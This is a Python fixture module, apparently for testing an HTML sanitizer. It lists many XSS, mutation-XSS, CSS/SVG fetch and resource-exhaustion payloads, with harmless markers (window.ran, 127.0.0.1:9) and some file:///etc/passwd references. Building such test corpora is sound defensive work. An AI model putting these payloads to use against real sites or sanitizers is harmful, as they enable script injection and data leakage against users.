"""Markup that has run script, fetched or sent in some browser or got past some filter, or that is
built to.

What would run sets `window.ran`, and what would fetch asks 127.0.0.1:9, so that the list can be
tried in a browser.
"""

from __future__ import annotations

RUN = "window.ran=1"
IMG = f"<img src=x onerror={RUN}>"
AWAY = "http://127.0.0.1:9/x"
# What programs take for the end of a comment, of raw text or of an attribute, and what namespaces
# make of it.
CONFUSING = (
    f'<p ="x" ={IMG}>',
    f'<p ="{IMG}">',
    f'<a href="#top" =">"{IMG}>x</a>',
    f'<textarea></textarea><textarea><a title="</textarea>{IMG}">x</a></textarea>',
    f'<title><a title="</title>{IMG}">x</a></title>',
    f'<xmp><a title="</xmp>{IMG}">x</a></xmp>',
    f'<noembed><a title="</noembed>{IMG}">x</a></noembed>',
    f'<noframes><a title="</noframes>{IMG}">x</a></noframes>',
    f'<noscript><a title="</noscript>{IMG}">x</a></noscript>',
    f'<iframe><a title="</iframe>{IMG}">x</a></iframe>',
    f"<plaintext>{IMG}",
    f"<listing>\n{IMG}</listing>",
    f"<!-- -- >{IMG} -->",
    f"<!-- --!>{IMG} -->",
    f"<!-->{IMG}-->",
    f"<!--->{IMG}-->",
    f"<!-- <!-- --> {IMG} -->",
    f"<!{IMG}>",
    f"<?{IMG}?>",
    f"</{IMG}>",
    f"<![CDATA[><!--]]>{IMG}-->",
    "<![a",
    "<![",
    "<!",
    "<",
    "</",
    "<!--",
    "<!DOCTYPE",
    f"<svg><![CDATA[</svg>]]>{IMG}</svg>",
    f"<svg><style>{IMG}</style></svg>",
    f'<svg><title><style><a title="</style>{IMG}">',
    f'<svg><desc><style><a title="</style>{IMG}">',
    f'<svg></p><style><a id="</style>{IMG}">',
    f'<svg><p><style><g title="</style>{IMG}">',
    (
        "<math></p><style><!--</style><img "
        f'title="--&gt;{IMG.replace("<", "&lt;").replace(">", "&gt;")}">'
    ),
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        f'onerror={RUN}&gt;">'
    ),
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f'<math><annotation-xml encoding="text/html"><style>{IMG}</style></annotation-xml></math>',
    f"<math><mi><svg><style>{IMG}</style></svg></mi></math>",
    f"<svg><foreignObject><style>{IMG}</style></foreignObject></svg>",
    f"<template>{IMG}</template>",
    f"<template><template shadowrootmode=open>{IMG}</template></template>",
    f"<select><iframe><select><img src=x: onerror={RUN}>",
    f"<table><td><a><table><td><a>{IMG}",
    f"<a><svg><a><title><a>{IMG}",
    f"<p><table><p><svg><p>{IMG}",
    f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    f"<img src='x'`onerror={RUN}'>",
    f"<img/src/onerror={RUN}>",
    f"<img \x00src=x onerror\x00={RUN}>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<style>a {{}}</style/{IMG}>",
    f"<style></style{IMG}",
    f"<frameset onload={RUN}>",
    f"</body><frameset onload={RUN}>",
    f"</html>{IMG}",
    f"</head><script>{RUN}</script>",
    f"<body onload={RUN}>",
    f"<html onclick={RUN}>",
)
RUNNING = (
    f'<p onclick="{RUN}">x</p>',
    f'<p oNcLiCk="{RUN}">x</p>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<svg onload="{RUN}"></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    (
        f'<svg><a href="#top"><set attributeName="href" to="javascript:{RUN}"/><text '
        'y="9">x</text></a></svg>'
    ),
    (
        f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text '
        'y="9">x</text></a></svg>'
    ),
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src="x" onerror="{RUN}"></audio>',
    f'<input autofocus onfocus="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" JavaScript:{RUN}">x</a>',
    f'<a href="java&#10;script:{RUN}">x</a>',
    f'<a href="&#1;javascript:{RUN}">x</a>',
    f'<a href="javascript&colon;{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="other.html">x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    "<applet></applet>",
    "<portal></portal>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta name="referrer" content="unsafe-url">',
    '<meta charset="utf-7">',
    f'<form action="{AWAY}"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<p style="width: expression({RUN})">x</p>',
    f'<img src="data:text/html,<script>{RUN}</script>" alt="x">',
    (
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\" "
        'alt="x">'
    ),
    '<img src="data:image/svg+xml,<!DOCTYPE svg [<!ENTITY a \'x\'>]><svg/>" alt="x">',
    (
        '<img src="data:image/svg+xml,<html '
        'xmlns=\'http://www.w3.org/1999/xhtml\'><script/></html>" alt="x">'
    ),
    '<img src="data:image/svg+xml;base64,####" alt="x">',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    '<p is="x-y">x</p>',
    '<p slot="x" contenteditable itemid="x">x</p>',
)
PAINTED = "fill stroke clip-path mask marker-start marker-mid marker-end filter cursor"
FETCHING = (
    '<img src="file:///etc/passwd" alt="x">',
    f'<img src="{AWAY}" alt="x">',
    '<img src="//127.0.0.1:9/x.png" alt="x">',
    '<IMG SRC="x.png" alt="x">',
    f'<img srcset="{AWAY} 1x" alt="x">',
    f'<img alt="x" lowsrc="{AWAY}" dynsrc="{AWAY}">',
    f'<picture><source srcset="{AWAY}"></picture>',
    f'<link rel="stylesheet" href="{AWAY}">',
    f'<link rel="preconnect" href="{AWAY}">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<a rel="attachment" href="http://127.0.0.1:9/x">x</a>',
    f'<a href="#top" ping="{AWAY}">x</a>',
    f'<base href="{AWAY}">',
    f'<video poster="{AWAY}"></video>',
    f'<body background="{AWAY}">',
    f'<table background="{AWAY}"><tr><td>x</td></tr></table>',
    f'<html manifest="{AWAY}">',
    f'<svg><image href="{AWAY}"/></svg>',
    f'<svg><image xlink:href="{AWAY}"/></svg>',
    f'<svg><use href="{AWAY}#a"/></svg>',
    f'<svg><feImage href="{AWAY}"/></svg>',
    f'<svg><linearGradient href="{AWAY}#a"/></svg>',
    f'<svg><textPath href="{AWAY}#a"/></svg>',
    *(
        f'<svg><rect {name}="url({AWAY}#a)" width="9" height="9"/></svg>'
        for name in (
            "fill",
            "stroke",
            "clip-path",
            "mask",
            "marker-start",
            "marker-mid",
            "marker-end",
            "filter",
            "cursor",
        )
    ),
    f'<svg><rect fill="u\\72l({AWAY})"/></svg>',
    f'<svg><rect fill="url(&quot;{AWAY}&quot;)"/></svg>',
    f'<svg><rect style="fill: url({AWAY}#a)"/></svg>',
    f"<p style=\"background: url('{AWAY}')\">x</p>",
    '<p style="background: URL(x.png)">x</p>',
    f'<p style="--x: url({AWAY})">x</p>',
    f'<p style="background: url({AWAY} x)">x</p>',
    f'<style>@import "{AWAY}";</style>',
    f"<style>@\\69mport url({AWAY});</style>",
    f'<style>@namespace x "{AWAY}";</style>',
    f"<style>@document url({AWAY}) {{ a {{ top: 0 }} }}</style>",
    f"<style>a {{ background: url({AWAY}) }}</style>",
    f"<style>a {{ background: u\\72l({AWAY}) }}</style>",
    f"<style>a {{ background: \\url({AWAY}) }}</style>",
    f"<style>a {{ background: url(/**/'{AWAY}') }}</style>",
    f"<style>a {{ background: image-set('{AWAY}' 1x) }}</style>",
    f"<style>a {{ background: -webkit-image-set('{AWAY}' 1x) }}</style>",
    f"<style>a {{ background: image('{AWAY}') }}</style>",
    f"<style>a {{ background: cross-fade('{AWAY}', red) }}</style>",
    f"<style>a {{ background: src('{AWAY}') }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({AWAY}) }}</style>",
    f"<style>@media print {{ a {{ b: (x [y {{ url({AWAY}) }}]) }} }}</style>",
    (
        "<style>a { background: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='{AWAY}'/></svg>\") }}</style>"
    ),
    "<style>a { background: url(data:text/html,x) }</style>",
    "<style>a { background: url(data:image/svg+xml;base64,PHN2Zy8+) }</style>",
)
EXHAUSTING = (
    '<table><tr><td colspan="99999999">x</td></tr></table>',
    '<table><tr><td rowspan="-1">x</td></tr></table>',
    '<table><colgroup span="٣"></colgroup><tr><td>x</td></tr></table>',
    "<div>" * 300,
    "<b>" * 300 + "x",
)
HOSTILE = (*CONFUSING, *RUNNING, *FETCHING, *EXHAUSTING)
